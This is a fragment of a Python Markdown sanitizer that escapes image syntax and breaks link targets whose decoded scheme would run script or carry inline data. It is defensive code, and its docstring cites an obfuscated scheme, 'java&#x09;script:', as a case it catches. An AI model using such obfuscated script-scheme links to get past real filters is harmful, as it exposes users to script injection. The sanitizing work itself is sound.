        or (left == "<" and (right.isalnum() or right in "/!?"))
    )


def _guard(text: str) -> str:
    """Escape every image opener and break every dangerous link target, code or not."""
    text = _BANG.sub(r"\1\\![", text)
    return _TARGET.sub(lambda m: m[0] + _SEP if _dangerous(text[m.end() : m.end() + 100]) else m[0], text)


# Links


def has_definitions(text: str) -> bool:
    """Whether ``text`` defines a link reference or a footnote, which reaches across blocks."""
    return _DEFINITION.search(text) is not None or _FOOTNOTE.search(text) is not None


def _definitions(text: str) -> dict[str, str]:
    """Link reference definitions: normalised label → raw destination (first one wins).

    Collected everywhere, code included; a label we wrongly think defined only makes us
    rewrite text that would have shown literally.
    """
    found: dict[str, str] = {}
    for match in _DEFINITION.finditer(text):
        if not match["label"].startswith("^"):
            found.setdefault(_normalise(match["label"]), match["dest"])
    return found


def _normalise(label: str) -> str:
    """micromark's normalizeIdentifier: collapse whitespace, trim, fold case."""
    return re.sub(r"[\t\n ]+", " ", label).strip(" ").lower().upper()


def _dangerous(destination: str) -> bool:
    """Whether a raw link destination would run script or carry inline data when followed.

    Decodes backslash escapes and character references as the parser does, and drops the
    whitespace and control characters browsers ignore, so ``java&#x09;script:`` counts.
    """
    if destination.startswith("<") and destination.endswith(">"):
        destination = destination[1:-1]
    url = html.unescape(_ESCAPE.sub(r"\1", destination))
    url = "".join(char for char in url if char > " ").lower()
    return url.startswith(_DANGEROUS_SCHEMES)
